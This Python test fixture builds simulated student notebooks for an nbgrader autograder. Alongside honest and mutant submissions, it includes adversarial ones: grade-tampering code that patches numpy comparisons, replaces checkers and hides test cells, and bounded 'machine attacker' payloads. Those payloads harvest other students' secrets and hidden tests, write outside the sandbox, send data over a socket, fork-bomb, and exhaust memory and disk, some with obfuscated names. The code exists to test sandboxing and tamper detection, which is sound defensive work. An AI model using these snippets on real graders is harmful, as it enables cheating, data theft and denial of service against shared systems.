"""One fixture class of students, graded once through the real driver and nbgrader.

Honest students (the solutions, the untouched release, one mistake, a different catalog mistake
in every exercise), mutants (three wrong implementations of every exercise, one correct
alternative), students whose correct answers use idioms that only look like tampering (setattr on
their own objects, files in their own folder, eval of a constant…: tests/variants/idioms.py) and
adversaries (tampering, endless loops, crashing kernels, broken files) sit in the same class, so
the tests can also show that honest students' grades are unaffected.
"""

import contextlib
import importlib
import io
import os
import socket
import threading
import uuid

import nbformat

from encdec.mistakes import CATALOG
from nbtools import (autograde, cell, checks_module, course_copy, graded_cells, inject, lessons, release,
                     set_answer, solution, write_submission)
from variants import idioms

LESSONS = lessons()
FIRST = LESSONS[0]
CELL_TIMEOUT, NOTEBOOK_TIMEOUT = 20, 90
# The class is graded in the sandbox unless SANDBOX=off (which shows the sandbox's tests failing).
SANDBOXED = os.environ.get("SANDBOX", "on") != "off"


def unit_score(exercise, impl):
    """What the checker gives this answer outside nbgrader, hidden cases included."""
    with contextlib.redirect_stdout(io.StringIO()):
        return exercise.checker(exercise.answer_from(impl), points=exercise.points, hidden=True)


def grade_id_of(nb, exercise):
    calls = f"{exercise.checker.__name__}("
    for c in graded_cells(nb):
        if calls in c.source:
            return c.metadata.nbgrader.grade_id
    raise KeyError(f"no test cell calls {calls}")


def alternatives(lesson):
    try:
        return importlib.import_module(f"variants.lesson{lesson[:2]}").ALTERNATIVES
    except ModuleNotFoundError:
        return {}


def full_marks(nb):
    return {c.metadata.nbgrader.grade_id: float(c.metadata.nbgrader.points) for c in graded_cells(nb)}


def mutant(lesson, k):
    """Every exercise gets its k-th catalog mistake (a different one per exercise)."""
    nb, module = solution(lesson), checks_module(lesson)
    scores = full_marks(nb)
    used = {}
    for i, ex in enumerate(module.EXERCISES):
        mistakes = CATALOG[ex.name]
        m = mistakes[(i + k) % len(mistakes)]
        nb = inject(nb, ex, m.impl)
        scores[grade_id_of(nb, ex)] = unit_score(ex, m.impl)
        used[ex.number] = m.key
    return nb, scores, used


def alternative_notebook(lesson):
    nb, module = solution(lesson), checks_module(lesson)
    for ex in module.EXERCISES:
        nb = inject(nb, ex, alternatives(lesson)[ex.name][0])
    return nb, full_marks(nb)


def edit(nb, grade_id, fn):
    nb = nbformat.from_dict(nb)
    fn(cell(nb, grade_id), nb)
    return nb


def adversaries(expected_wrong):
    """(student, notebook or bytes, expected) for lesson 01. `expected` is either per-cell scores
    (status graded) or a status prefix with a zero score."""
    base, wrong_scores, _ = expected_wrong
    sol = solution(FIRST)
    full = full_marks(sol)
    tests = [c.metadata.nbgrader.grade_id for c in graded_cells(sol)]
    exercises = checks_module(FIRST).EXERCISES
    first_test, first_answer = grade_id_of(sol, exercises[0]), exercises[0].answer_cell
    last_test, last_answer = grade_id_of(sol, exercises[-1]), exercises[-1].answer_cell
    wrong = dict(wrong_scores)

    def set_source(text):
        return lambda c, nb: setattr(c, "source", text)

    def strip_meta(c, nb):
        c.metadata.pop("nbgrader")
        c.source = "3.0"

    def raise_points(c, nb):
        c.metadata.nbgrader["points"] = 100
        c.source = "100"

    def delete(c, nb):
        nb.cells.remove(c)

    def no_hidden(c, nb):
        c.source = "\n".join(line for line in c.source.splitlines()
                             if "HIDDEN" not in line and "hidden = True" not in line)

    def append(code):
        return lambda c, nb: setattr(c, "source", c.source + "\n" + code)

    def prepend(code):
        return lambda c, nb: setattr(c, "source", code + "\n" + c.source)

    checks = checks_module(FIRST).__name__.rsplit(".", 1)[1]
    zero = {"cells": {k: 0.0 for k in full}}

    cases = [
        ("assert-true", edit(base, first_test, set_source("assert True")), {"cells": wrong}),
        ("deleted-test", edit(base, first_test, delete), {"cells": wrong}),
        ("stripped-metadata", edit(base, first_test, strip_meta), {"cells": wrong}),
        ("raised-points", edit(base, first_test, raise_points), {"cells": wrong}),
        ("hidden-removed", edit(edit(base, tests[0], no_hidden), tests[1], no_hidden), {"cells": wrong}),
        ("loop-in-answer", edit(sol, first_answer, append(
            f"def {first_answer}(*args, **kwargs):\n    while True:\n        pass")),
         {"cells": {**full, first_test: 0.0}}),
        ("loop-top-level", edit(sol, last_answer, prepend("while True:\n    pass")),
         {"cells": {**full, last_test: 0.0}}),
        ("sigint-ignored", edit(sol, first_answer, append(
            "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass")),
         {"status": "tampered"}),
        ("uninterruptible", edit(sol, first_answer, append("sum(range(10**13))  # C code that never checks for interrupts")),
         {"status": "failed: a cell ran past the time limit"}),
        ("kernel-exits", edit(sol, first_answer, append("import os\nos._exit(1)")), {"status": "tampered"}),
        ("kernel-crashes", edit(sol, first_answer, append("import faulthandler\nfaulthandler._sigsegv()")),
         {"status": "failed: the kernel died"}),
        ("sys-exit", edit(sol, first_answer, append("import sys\nsys.exit()")), {"cells": full}),
        ("huge-output", edit(sol, first_answer, append("print('x' * 100_000_000)")), {"cells": full}),
        ("not-json", "{ not a notebook", {"status": "failed: not valid JSON"}),
        ("empty-file", "", {"status": "failed: the notebook file is empty"}),
        ("calls-reference", edit(sol, first_answer, append(
            f"from encdec import {first_answer} as _ref\ndef {first_answer}(*args, **kwargs):\n"
            f"    return _ref(*args, **kwargs)")), {"cells": {**full, first_test: 0.0}}),
        ("patches-numpy", edit(base, first_answer, append("np.allclose = lambda *a, **k: True\n"
                                                          "np.isclose = lambda a, b, **k: np.ones(np.shape(a), bool)")),
         {"status": "tampered"}),
        ("replaces-checker", edit(base, first_answer, append(
            "import encdec.checks.lesson01 as L\nL.check_softmax = lambda **k: 3.0")), {"status": "tampered"}),
        ("edits-reference", edit(base, first_answer, append(
            f"import encdec\nencdec.attention.{first_answer} = {first_answer}")), {"status": "tampered"}),
        ("patches-by-vars", edit(base, first_answer, append(
            "vars(np)['isclose'] = lambda a, b, **k: np.ones(np.broadcast(a, b).shape, bool)")), {"status": "tampered"}),
        # the same with targets the audit cannot know before the notebook runs: a caution for the
        # instructor, and the guard in the kernel zeroes every check
        ("patches-at-runtime", edit(base, first_answer, append(
            "import importlib\ndef _which():\n    return ''.join(['num', 'py'])\n"
            "setattr(importlib.import_module(_which()), 'isclose', lambda a, b, **k: np.ones(np.broadcast(a, b).shape, bool))")),
         zero),
        ("exec-hidden", edit(base, first_answer, append(
            "def _source():\n    return ''.join(['np.isclose = lambda a, b, **k: ', 'np.ones(np.broadcast(a, b).shape, bool)'])\n"
            "exec(compile(_source(), '<hidden>', 'exec'))")), zero),
        # the target reached another way: the audit follows it
        ("setattr-import", edit(base, first_answer, append(
            "setattr(__import__('numpy'), 'isclose', lambda a, b, **k: np.ones(np.broadcast(a, b).shape, bool))")),
         {"status": "tampered"}),
        ("globals-alias", edit(base, first_answer, append(
            "g = globals()\ng['np'].allclose = lambda *a, **k: True")), {"status": "tampered"}),
        ("getattr-chain", edit(base, first_answer, append(
            f"import encdec\ngetattr(getattr(encdec, 'checks'), '{checks}').check_softmax = lambda **k: 3.0")),
         {"status": "tampered"}),
        # IPython runs the test cells and reads their scores from what they display: a notebook that
        # empties them or hides their results is found by the audit, or, hidden from it, by the
        # checkers' records, which no longer back the points nbgrader gave
        ("ipython-hook", edit(base, first_answer, append(
            "def _hook(ip):\n    ip.input_transformers_post.append(lambda lines: [])\n_hook(get_ipython())")),
         {"status": "tampered"}),
        ("results-hidden", edit(base, first_answer, append(
            "import builtins\ndef _name():\n    return 'get_' + 'ipython'\n"
            "vars(builtins)[_name()]().ast_node_interactivity = 'none'")),
         {"cells": {k: v if v == full[k] else 0.0 for k, v in wrong.items()}, "status": "graded ("}),
        # in the sandbox the library is read-only and the gradebook out of sight: the write fails,
        # and the notebook is graded as if it had not tried; without it, the third line of defence
        # (integrity.py) or the gradebook's damage stops it. The mode is worked out at run time, so
        # the audit only cautions: a constant one is a finding (writes-outside)
        ("writes-library", edit(sol, first_answer, append(
            "import encdec, os\ndef _mode():\n    return 'a'\n"
            "open(os.path.join(os.path.dirname(encdec.__file__), 'attention.py'), _mode()).write('\\nraise SystemExit\\n')")),
         {"cells": full} if SANDBOXED else {"status": "tampered: the notebook changed files outside its own folder"}),
        ("writes-gradebook", edit(sol, first_answer, append(
            "def _mode():\n    return 'w'\nopen('../../../gradebook.db', _mode()).write('gone')")),
         {"cells": full} if SANDBOXED else {"status": "failed"}),
        ("writes-outside", edit(sol, first_answer, append("open('../../../gradebook.db', 'w').write('gone')")),
         {"status": "tampered"}),
        # files in its own folder are its own business
        ("writes-own-folder", edit(sol, first_answer, append(
            "import tempfile\nopen('notes.txt', 'w').write('mine')\nnp.save('x.npy', np.arange(3))\n"
            "np.save(tempfile.mkdtemp() + '/y.npy', np.load('x.npy'))")), {"cells": full}),
    ]
    return cases


def idiom_students():
    """(student, lesson, notebook, expected): correct answers written with idioms that only look like
    tampering (full marks), a correct 10.6 whose cache sets its attributes with setattr (full marks),
    and a wrong 10.1 that uses setattr (graded, its slip costs what the checker says)."""
    found = []
    for lesson in LESSONS:
        chosen = idioms.for_lesson(lesson)
        if chosen:
            nb = solution(lesson)
            for idiom in chosen:
                nb = set_answer(nb, idiom.cell, idiom.source)
            found.append(("idioms", lesson, nb, {"cells": full_marks(solution(lesson))}))
        if lesson.startswith(idioms.SETATTR_CACHE.lesson):
            nb = set_answer(solution(lesson), idioms.SETATTR_CACHE.cell, idioms.SETATTR_CACHE.source)
            found.append(("setattr-cache", lesson, nb, {"cells": full_marks(nb)}))
            slip = idioms.SETATTR_SLIP
            nb = set_answer(solution(lesson), slip.cell, slip.source)
            ex = next(e for e in checks_module(lesson).EXERCISES if e.answer_cell == slip.cell)
            namespace = {"np": importlib.import_module("numpy"), "torch": importlib.import_module("torch")}
            exec(slip.source, namespace)
            found.append(("setattr-slip", lesson, nb,
                          {"cells": {**full_marks(nb), grade_id_of(nb, ex): unit_score(ex, namespace[ex.name])}}))
    return found


# -- students who attack the machine (the sandbox's tests, tests/test_sandbox.py) ------------------------
# Each hides its attack from the static audit (functions and write modes named only at run time: a
# caution for the instructor, not a zero) and keeps to a bounded size, so that a run with SANDBOX=off
# shows the tests failing without harm.
SECRET = "SECRET-" + uuid.uuid4().hex[:12]  # in the victim's notebook; nobody else may read it
TOKEN = uuid.uuid4().hex[:12]  # names what the attackers leave behind


def _hostile(code):
    """The solution of the first lesson with `code` run at the end of its first answer cell."""
    sol = solution(FIRST)
    answer = checks_module(FIRST).EXERCISES[0].answer_cell
    return edit(sol, answer, lambda c, nb: setattr(c, "source", c.source + "\n" + code))


SURVIVOR = f"""
import os as _os, sys as _sys
def _named(*parts):
    return getattr(_os, "".join(parts))
if _named("fo", "rk")() == 0:  # a process of its own session, with a name the grader does not know
    _os.setsid()
    _os.execv(_sys.executable, [_sys.executable, "-c", "import time; time.sleep(3600)", "survivor-{TOKEN}"])
"""

READER = f"""
import os as _os
_mine = _os.path.abspath("{FIRST}.ipynb")
_seen, _others, _secrets, _hidden, _books, _graders = 0, 0, set(), 0, 0, 0
for _top in [_os.path.abspath("../" * 6), "/root", "/home", "/tmp", "/work"]:
    for _dir, _subdirs, _files in _os.walk(_top):
        _subdirs[:] = [d for d in _subdirs if d not in ("proc", "sys", ".venv", ".pyenv", ".git", "node_modules")]
        for _f in _files:
            _seen += 1
            _p = _os.path.join(_dir, _f)
            if _f == "gradebook.db":
                _books += 1
            if _f.endswith(".ipynb") and _p != _mine:
                try:
                    _text = open(_p, errors="replace").read()
                except OSError:
                    continue
                _others += 1
                _hidden += ("BEGIN HIDDEN " + "TESTS") in _text  # split: nbgrader reads the marker in any cell
                _secrets |= {{w[:19] for w in _text.split() if w.startswith("SECRET-")}}
        if _seen > 200000:
            break
for _pid in [p for p in _os.listdir("/proc") if p.isdigit()]:
    try:
        _graders += "autograder" in open(f"/proc/{{_pid}}/cmdline").read()
    except OSError:
        pass
print(f"READ others={{_others}} hidden={{_hidden}} gradebooks={{_books}} graders={{_graders}} secrets={{sorted(_secrets)}}")
"""

WRITER = f"""
import os as _os, encdec as _e
_mode = chr(119)  # "w"
_wrote = []
for _target in ["../../../../../../escaped-{TOKEN}", "/tmp/escaped-{TOKEN}", _os.path.expanduser("~/escaped-{TOKEN}"),
                "/root/escaped-{TOKEN}", _os.path.join(_os.path.dirname(_os.__file__), "escaped-{TOKEN}"),
                _os.path.join(_os.path.dirname(_e.__file__), "escaped-{TOKEN}")]:
    try:
        with open(_target, _mode) as _f:
            _f.write("written by a submission")
        _wrote.append(_os.path.abspath(_target))
    except OSError:
        pass
print("WROTE", _wrote)
"""


def _network(port):
    return f"""
import socket as _socket
try:
    with _socket.create_connection(("127.0.0.1", {port}), timeout=3) as _c:
        _c.sendall(b"stolen-{TOKEN}")
    print("CONNECTED")
except OSError as _e:
    print("NO NETWORK", _e)
"""


FORK_BOMB = """
import os as _os, time as _time
def _named(*parts):
    return getattr(_os, "".join(parts))
_children = 0
try:
    for _ in range(600):  # bounded: a run without the sandbox must survive it
        if _named("fo", "rk")() == 0:
            _time.sleep(20)
            _named("_ex", "it")(0)
        _children += 1
except OSError as _e:
    print("fork failed after", _children, _e)
print("FORKED", _children)
"""

MEMORY_BOMB = """
_hoard = []
for _ in range(48):  # 3 GiB, bounded, each chunk written so the memory is really taken
    _hoard.append(b"x" * (64 << 20))
print("HOARDED", len(_hoard) * 64, "MiB")
del _hoard
"""

DISK_FILLER = """
import os as _os
_mode, _chunk, _written = "wb", b"x" * (64 << 20), 0
try:
    for _i in range(40):  # 2.5 GiB in files of 64 MiB, each under the file-size limit
        with open(f"fill-{_i}.bin", _mode) as _f:
            _f.write(_chunk)
        _written += 64
except OSError as _e:
    print("write failed", _e)
print("FILLED", _written, "MiB")
"""


class LoopbackServer:
    """A TCP server on 127.0.0.1 that records who connects (a submission must not reach it)."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.port = self.sock.getsockname()[1]
        self.received = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            with conn:
                conn.settimeout(3)
                try:
                    self.received.append(conn.recv(100))
                except OSError:
                    self.received.append(b"")


def machine_attackers(server):
    """(student, notebook, expected) of the sandbox's tests, all on the first lesson."""
    full = full_marks(solution(FIRST))
    victim = solution(FIRST)
    victim.cells.append(nbformat.v4.new_markdown_cell(f"My notes: {SECRET}"))
    return [
        ("victim", victim, {"cells": full}),
        ("survivor", _hostile(SURVIVOR), {"cells": full}),
        ("reader", _hostile(READER), {"cells": full}),
        ("writer", _hostile(WRITER), {"cells": full}),
        ("network", _hostile(_network(server.port)), {"cells": full}),
        ("fork-bomb", _hostile(FORK_BOMB), {"status": "failed: process limit of 256 exceeded"}),
        ("memory-bomb", _hostile(MEMORY_BOMB), {"status": "failed: memory limit of 2 GiB exceeded"}),
        ("disk-filler", _hostile(DISK_FILLER), {"status": "failed: memory limit of 2 GiB exceeded"}),
    ]


def build_and_grade(tmp_path_factory):
    submitted = tmp_path_factory.mktemp("submitted")
    out = tmp_path_factory.mktemp("out")
    expected, mutants_used = {}, {}
    for lesson in LESSONS:
        sol = solution(lesson)
        full = full_marks(sol)
        module = checks_module(lesson)
        write_submission(submitted, "solution", lesson, sol)
        expected[("solution", lesson)] = {"cells": full}
        write_submission(submitted, "untouched", lesson, release(lesson))
        expected[("untouched", lesson)] = {"cells": {k: 0.0 for k in full}}
        first = module.EXERCISES[0]
        m = CATALOG[first.name][0]
        nb = inject(sol, first, m.impl)
        write_submission(submitted, "one-mistake", lesson, nb)
        expected[("one-mistake", lesson)] = {"cells": {**full, grade_id_of(nb, first): unit_score(first, m.impl)}}
        for k in range(3):
            nb, scores, used = mutant(lesson, k)
            write_submission(submitted, f"mutant-{k + 1}", lesson, nb)
            expected[(f"mutant-{k + 1}", lesson)] = {"cells": scores}
            mutants_used[(f"mutant-{k + 1}", lesson)] = used
        nb, scores = alternative_notebook(lesson)
        write_submission(submitted, "alternative", lesson, nb)
        expected[("alternative", lesson)] = {"cells": scores}
    wrong = mutant(FIRST, 0)
    for student, nb, exp in adversaries(wrong):
        write_submission(submitted, student, FIRST, nb)
        expected[(student, FIRST)] = exp
    server = LoopbackServer()
    for student, nb, exp in machine_attackers(server):
        write_submission(submitted, student, FIRST, nb)
        expected[(student, FIRST)] = exp
    for student, lesson, nb, exp in idiom_students():
        write_submission(submitted, student, lesson, nb)
        expected[(student, lesson)] = exp
    # a misnamed notebook is graded (and the row says so); a student with a lesson missing gets a row
    path = write_submission(submitted, "wrong-name", FIRST, solution(FIRST))
    path.rename(path.with_name("my_attention.ipynb"))
    expected[("wrong-name", FIRST)] = {"cells": full_marks(solution(FIRST)), "status": "graded (submitted as"}
    write_submission(submitted, "lesson-missing", LESSONS[1], solution(LESSONS[1]))
    expected[("lesson-missing", FIRST)] = {"status": "missing"}
    expected[("lesson-missing", LESSONS[1])] = {"cells": full_marks(solution(LESSONS[1]))}
    root = course_copy(tmp_path_factory.mktemp("course"))
    code, rows, output = autograde(submitted, out, jobs=2, root=root,
                                   env={"GRADE_CELL_TIMEOUT": str(CELL_TIMEOUT), "GRADE_TIMEOUT": str(NOTEBOOK_TIMEOUT)})
    return {"code": code, "rows": rows, "output": output, "expected": expected, "out": out,
            "root": root, "submitted": submitted, "mutants": mutants_used, "server": server}
